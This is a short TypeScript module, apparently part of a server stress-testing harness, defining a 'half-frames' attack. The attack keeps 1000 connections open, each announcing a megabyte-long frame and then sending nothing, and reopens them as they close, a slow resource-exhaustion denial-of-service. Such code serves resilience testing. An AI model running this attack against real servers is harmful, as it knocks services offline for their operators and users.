import type { Attack } from '../attack.ts';

const CONNECTIONS = 1000;
/** A request of a megabyte. */
const LENGTH = new Uint8Array([0, 0x0f, 0xff, 0xff]);

export const halfFrames: Attack = {
  name: 'half-frames',
  doc: `${CONNECTIONS} connections that announce a megabyte and send nothing of it, again whenever they are closed`,
  run: async ({ socket, count, pause, isOver }) => {
    let open = 0;
    while (!isOver()) {
      for (; open < CONNECTIONS; open++) {
        const connection = socket();
        connection.write(LENGTH);
        connection.once('close', () => open--);
        count();
        if (open % 50 === 49) await pause(50);
      }
      await pause(200);
    }
  },
};
